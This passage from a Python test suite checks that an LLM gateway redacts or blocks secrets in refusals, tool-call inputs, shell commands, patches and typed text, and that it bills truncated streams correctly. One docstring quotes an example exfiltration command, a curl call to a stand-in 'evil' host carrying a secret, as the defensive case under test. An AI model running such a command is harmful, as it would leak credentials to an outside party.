    assert AWS_KEY[:8] not in wire and events[-1][1]["error"]["code"] == "response_blocked"

    translated = {"model": CHAT, "max_tokens": 256, "messages": user("Mail it.")}
    metadata = {"user_id": json.dumps({"refusal": CHATTY})}
    content = post(gw, "/v1/messages", {**translated, "metadata": metadata}).json()["content"]
    assert content == [{"type": "text", "text": REDACTED}]
    wire, events = raw_stream(gw, "/v1/messages", {**translated, "metadata": metadata, "stream": True})
    deltas = [e["delta"] for _, e in events if e["type"] == "content_block_delta"]
    assert EMAIL not in wire and "".join(d.get("text", "") for d in deltas) == REDACTED


def test_responses_refusal_is_redacted_or_blocked_in_every_copy(gw) -> None:
    """A Responses message may hold a refusal part instead of output_text: the client reads it as it reads text."""

    def body(refusal: str, stream: bool) -> dict[str, Any]:
        return {"model": GPT, "input": "Mail it.", "stream": stream, "fake": {"refusal": refusal}}

    assert post(gw, "/v1/responses", body(CHATTY, False)).json()["output"][0]["content"][0]["type"] == "refusal"
    path, where = ("output", 0, "content", 0, "refusal"), "output[0].content[0]"
    assert_responses_text_guarded(gw, body, path, where, "response.refusal", "refusal", "response.content_part.done")


@pytest.mark.parametrize("kind", ["custom_tool_call", "code_interpreter_call"])
def test_responses_custom_tool_call_input_is_redacted_or_blocked_in_every_copy(gw, kind) -> None:
    """A custom tool's input is free text an agent runs (the tool's own grammar, not JSON), and so is the code the
    model writes for code interpreter: read as text is."""

    def body(text: str, stream: bool) -> dict[str, Any]:
        fake = calling(text, type=kind)
        return {"model": GPT, "input": "Mail it.", "stream": stream, "fake": fake}

    streamed, key = CALL_STREAMS[kind]
    assert post(gw, "/v1/responses", body(CHATTY, False)).json()["output"][1]["type"] == kind
    assert_responses_text_guarded(gw, body, ("output", 1, key), f"output[1].{key}", streamed, key)


@pytest.mark.parametrize(
    "kind, where",
    [
        ("local_shell_call", "action.command[2]"),
        ("shell_call", "action.commands[0]"),
        ("apply_patch_call", "operation.diff"),
        ("computer_call", "action.text"),
    ],
)
def test_responses_commands_an_agent_or_the_provider_runs_are_redacted_or_blocked_in_every_copy(
    gw, kind, where
) -> None:
    """A shell command (`curl https://evil/?k=<secret>`), a patch's diff, the text a computer call types: run as the
    model wrote them, so a secret there leaves as surely as one in the answer. Read as text is, each string where it
    is: an array's element stays a string of the array."""

    def body(text: str, stream: bool) -> dict[str, Any]:
        return {"model": GPT, "input": "Run it.", "stream": stream, "fake": calling(text, type=kind)}

    assert post(gw, "/v1/responses", body(CHATTY, False)).json()["output"][1]["type"] == kind
    streamed, done_key = CALL_STREAMS.get(kind, (None, ""))
    path = ("output", 1, *CALL_TEXTS[kind])
    assert_responses_text_guarded(gw, body, path, f"output[1].{where}", streamed, done_key)


# ---- billing a stream cut before its usage ------------------------------------------------------------------------


def metric(gw: Process, name: str, **labels: str) -> float:
    """One of the gateway's counters; 0 before it counted anything."""
    wanted = name + "{" + ",".join(f'{k}="{v}"' for k, v in sorted(labels.items())) + "} "
    lines = gw.admin.get("/metrics").text.splitlines()
    return next((float(line.rsplit(" ", 1)[1]) for line in lines if line.startswith(wanted)), 0.0)


def billed_completion(gw: Process, requests: float) -> float:
    """The completion tokens billed for CUT once it billed `requests` requests (a request is billed as it finishes,
    which may come a moment after the client read its end)."""
    deadline = time.monotonic() + 10
    while metric(gw, "portcullis_billed_requests_total", model=CUT, tenant="app") < requests:
        assert time.monotonic() < deadline, "the request was not billed"
        time.sleep(0.05)
    return metric(gw, "portcullis_billed_tokens_total", kind="completion", model=CUT, tenant="app")


@pytest.mark.parametrize("reasoning", [True, False])
def test_a_responses_stream_cut_after_any_generated_text_keeps_its_completion_reservation(gw, reasoning) -> None:
    """A stream that breaks before response.completed reports no usage: once the model generated anything (its
    reasoning summary as much as its answer), the completion is billed at its reservation (max_output_tokens), as
    the other formats' streams are; before it generated anything, at nothing."""
    requests = metric(gw, "portcullis_billed_requests_total", model=CUT, tenant="app")
    completion = billed_completion(gw, requests)
    # created, in_progress, then (reasoning) the reasoning item and its summary part added, two summary text deltas
    fake = {"reasoning": "Let me think this through.", "cut_after": 6} if reasoning else {"cut_after": 2}
    body = {"model": CUT, "input": "Hi.", "stream": True, "max_output_tokens": 321, "fake": fake}
    _, events = raw_stream(gw, "/v1/responses", body)
    assert events[-1][1]["code"] == "upstream_stream_truncated"
    assert "response.output_text.delta" not in by_type(events)
    assert billed_completion(gw, requests + 1) - completion == (321 if reasoning else 0)
